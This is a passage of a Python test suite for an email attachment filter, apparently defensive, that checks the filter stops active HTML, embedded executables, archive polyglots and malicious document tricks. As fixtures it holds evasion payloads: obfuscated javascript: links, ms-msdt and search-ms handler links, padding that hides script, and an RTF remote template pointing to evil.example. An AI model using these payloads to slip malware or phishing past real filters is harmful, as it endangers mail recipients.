    "html",
    [
        "<a href='java&#x09;script:location=1'>open</a>",  # a browser drops the tab
        "<a href='java\nscript:location=1'>open</a>",
        '<iframe src="https://login.x.example/" width=100% height=100%></iframe>',
        "<object data='//login.x.example/'></object>",
    ],
)
def test_script_addresses_and_remote_frames_make_an_attachment_active(html: str) -> None:
    action, symbols = verdict(html_message(html, "invoice.html"))
    assert "ATT_HTML_ACTIVE" in symbols and action in STOPPED, sorted(symbols)


def test_a_frame_in_a_body_is_no_active_attachment() -> None:
    body = (
        b"From: a@example.net\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html\r\n\r\n<iframe src='https://www.example.com/v'></iframe>\r\n"
    )
    action, symbols = verdict(body)
    assert "ATT_HTML_ACTIVE" not in symbols and action is Action.RELAY, sorted(symbols)


@pytest.mark.skipif(not OLETOOLS.is_dir(), reason="oletools test data not in ../shared")
@pytest.mark.parametrize("sample", ["encrypted.docx", "encrypted.doc", "encrypted.xlsx"])
def test_an_encrypted_document_that_cannot_be_opened_is_quarantined(sample: str) -> None:
    raw = with_attachment(oletools_sample(f"encrypted/{sample}"), sample)
    action, symbols = verdict(raw)
    assert {"DOC_ENCRYPTED", "ATT_POLICY_QUARANTINE"} <= symbols, sorted(symbols)
    assert action is Action.QUARANTINE


@pytest.mark.skipif(not OLETOOLS.is_dir(), reason="oletools test data not in ../shared")
def test_a_document_excels_default_password_opens_is_read_not_held_for_it() -> None:
    sample = "dde-test-encrypt-standardpassword.xlsx"
    _r, content, symbols = inspect(with_attachment(oletools_sample(f"encrypted/{sample}"), sample))
    assert "DOC_DDE" in symbols  # read once decrypted
    assert not any(f.encrypted for f in content.files)


def _rtf_package(name: str, data: bytes) -> bytes:
    """An RTF with an embedded OLE Package object (an OLE 1.0 object of class Package)."""
    path = b"C:\\t\\" + name.encode() + b"\x00"
    native = struct.pack("<H", 2) + name.encode() + b"\x00" + path
    native += struct.pack("<II", 0x30000, len(path)) + path + struct.pack("<I", len(data)) + data
    ole1 = struct.pack("<III", 0x501, 2, 8) + b"Package\x00" + struct.pack("<II", 0, 0)
    ole1 += struct.pack("<I", len(native)) + native
    return (
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
        + ole1.hex().encode()
        + b"}}}"
    )


def test_files_embedded_in_documents_are_scanned() -> None:
    """A Package object opens with a double click on its icon: it is a member of the document."""
    action, symbols = verdict(with_attachment(_rtf_package("invoice.exe", tiny_pe()), "a.rtf"))
    assert {"DOC_OLE_EMBEDDED", "ATT_EXECUTABLE"} <= symbols and action is Action.REJECT


@pytest.mark.skipif(not OLETOOLS.is_dir(), reason="oletools test data not in ../shared")
@pytest.mark.parametrize("sample", ["embedded-simple-2007.doc", "embedded-simple-2007.docx"])
def test_an_embedded_package_is_read_with_its_name(sample: str) -> None:
    data = oletools_sample(f"oleobj/{sample}")
    _r, content, _s = inspect(with_attachment(data, sample))
    assert [f.name for f in content.files if f.archive_depth == 1] == ["simple-text-file.txt"]
    assert verdict(with_attachment(data, sample))[0] is Action.RELAY
    if sample.endswith(".doc"):  # the same object, named as a script (the same length)
        script = data.replace(b"simple-text-file.txt", b"simple-text-file.vbs")
        action, symbols = verdict(with_attachment(script, sample))
        assert "ATT_SCRIPT" in symbols and action is Action.REJECT


def test_files_a_pdf_carries_are_scanned() -> None:
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.add_attachment("invoice.exe", tiny_pe())
    out = io.BytesIO()
    writer.write(out)
    action, symbols = verdict(with_attachment(out.getvalue(), "doc.pdf", "application/pdf"))
    assert {"PDF_EMBEDDED_FILE", "ATT_EXECUTABLE"} <= symbols and action is Action.REJECT
    notes = PdfWriter()
    notes.add_blank_page(72, 72)
    notes.add_attachment("notes.txt", b"see page 2\n")
    out = io.BytesIO()
    notes.write(out)
    action, symbols = verdict(with_attachment(out.getvalue(), "doc.pdf", "application/pdf"))
    assert action is Action.RELAY, sorted(symbols)


@pytest.mark.parametrize("gap", [b"", b"\x00" * 10])
def test_zips_one_after_another_are_all_read(gap: bytes) -> None:
    """7-Zip reads the first of concatenated zips, zipfile and Explorer the last."""
    data = zip_of({"invoice.exe": tiny_pe()}) + gap + zip_of({"readme.txt": b"hello"})
    action, symbols = verdict(with_attachment(data, "docs.zip"))
    assert {"ATT_POLYGLOT", "ATT_EXECUTABLE"} <= symbols and action is Action.REJECT


def test_a_stored_zip_in_a_zip_is_no_second_archive() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("inner.zip", zip_of({"a.txt": b"x"}))
        archive.writestr("b.txt", b"y")
    action, symbols = verdict(with_attachment(out.getvalue(), "docs.zip"))
    assert "ATT_POLYGLOT" not in symbols and action is Action.RELAY, sorted(symbols)


def test_an_lzma_file_is_opened_like_xz() -> None:
    import lzma

    data = lzma.compress(tiny_pe(), format=lzma.FORMAT_ALONE)
    action, symbols = verdict(with_attachment(data, "update.lzma"))
    assert "ATT_EXECUTABLE" in symbols and action is Action.REJECT, sorted(symbols)
    text = lzma.compress(b"minutes\n", format=lzma.FORMAT_ALONE)
    assert verdict(with_attachment(text, "notes.txt.lzma"))[0] is Action.RELAY


@pytest.mark.parametrize(
    ("head", "name"),
    [
        (b"\x00" * 7 + b"**ACE**\x14\x14\x02\x00", "old.ace"),
        (b"070701" + b"0" * 104, "files.cpio"),
        (b"xar!\x00\x1c\x00\x01", "setup.pkg"),
        (b"MSWIM\x00\x00\x00", "install.wim"),
        (b"\x1f\x9d\x90", "data.Z"),
    ],
)
def test_archives_nothing_here_reads_are_quarantined_not_relayed(head: bytes, name: str) -> None:
    """7-Zip or WinRAR open these; their members are unknown here."""
    action, symbols = verdict(with_attachment(head + b"\x00" * 200, name))
    assert "ARCHIVE_UNSUPPORTED" in symbols and action is Action.QUARANTINE, sorted(symbols)


@pytest.mark.parametrize(
    "html",
    [
        "<a href='search-ms:query=invoice&amp;crumb=location:\\\\198.51.100.7@80\\s'>Open</a>",
        "<a href='ms-msdt:/id PCWDiagnostic /skip force'>Fix</a>",
        "<a href='ms-appinstaller:?source=https://x.example/a.appinstaller'>Install</a>",
        "<meta http-equiv=refresh content='0;url=search-ms:query=invoice'>",
    ],
)
def test_a_link_to_a_windows_protocol_handler_makes_an_attachment_active(html: str) -> None:
    action, symbols = verdict(html_message(html, "invoice.html"))
    assert {"HTML_LAUNCH_URI", "ATT_HTML_ACTIVE"} <= symbols and action in STOPPED


def test_office_open_in_app_links_are_no_launch_uri() -> None:
    html = "<a href='ms-word:ofe|u|https://contoso.sharepoint.com/a.docx'>Open in Word</a>"
    action, symbols = verdict(html_message(html, "links.html"))
    assert "HTML_LAUNCH_URI" not in symbols and action is Action.RELAY, sorted(symbols)


@pytest.mark.parametrize(
    "tail",
    [
        "<script>location='https://x.example/'</script>",
        "<form action='https://x.example/p'><input type=password name=p></form>",
        "<img src=x onerror=\"location='https://x.example'\">",
    ],
)
def test_padding_does_not_hide_what_makes_a_page_act(tail: str) -> None:
    """The parse reads the first 2 MiB; a browser reads the whole file."""
    padded = "<p>" + "x" * (2 * 1024 * 1024 + 100) + "</p>" + tail
    action, symbols = verdict(html_message(padded, "invoice.html"))
    assert "ATT_HTML_ACTIVE" in symbols and action in STOPPED, sorted(symbols)
    hidden = "<!--" + "x" * (2 * 1024 * 1024 + 100) + "-->" + tail
    assert "ATT_HTML_ACTIVE" in verdict(html_message(hidden, "invoice.html"))[1]


def test_a_large_static_page_stays_relayed() -> None:
    page = "<p>" + "onboarding = done; see javascript tutorials. " * 60000 + "</p>"
    action, symbols = verdict(html_message(page, "report.html"))
    assert "ATT_HTML_ACTIVE" not in symbols and action is Action.RELAY, sorted(symbols)


def test_padding_does_not_hide_an_rtf_template_or_objects() -> None:
    pad = b"{\\*\\generator " + b"x" * (9 * 1024 * 1024) + b"}"
    rtf = b"{\\rtf1" + pad + b"{\\*\\template http://evil.example/t.dotm}hello}"
    action, symbols = verdict(with_attachment(rtf, "letter.rtf"))
    assert "DOC_REMOTE_TEMPLATE" in symbols and action is Action.QUARANTINE
    packaged = _rtf_package("invoice.exe", tiny_pe())
    big = packaged.replace(b"{\\rtf1", b"{\\rtf1" + pad[: 2 * 1024 * 1024] + b"}", 1)
    action, symbols = verdict(with_attachment(big, "letter.rtf"))
    assert "ATT_UNSCANNABLE" in symbols and action in STOPPED, sorted(symbols)


def test_an_outlook_message_is_opened_like_winmail_dat() -> None:
    """A forwarded .msg: Outlook opens its attachments with a double click."""
    from mime_samples import outlook_message

    msg = outlook_message({"invoice.exe": tiny_pe(), "notes.txt": b"minutes " * 1000})
    action, symbols = verdict(with_attachment(msg, "fwd.msg", "application/vnd.ms-outlook"))
    assert "ATT_EXECUTABLE" in symbols and action is Action.REJECT, sorted(symbols)
    benign = outlook_message({"agenda.txt": b"10:00 coffee\n"})
    raw = with_attachment(benign, "fwd.msg", "application/vnd.ms-outlook")
    _r, content, _s = inspect(raw)
    assert any(f.name == "agenda.txt" and f.archive_depth == 1 for f in content.files)
    assert verdict(raw)[0] is Action.RELAY
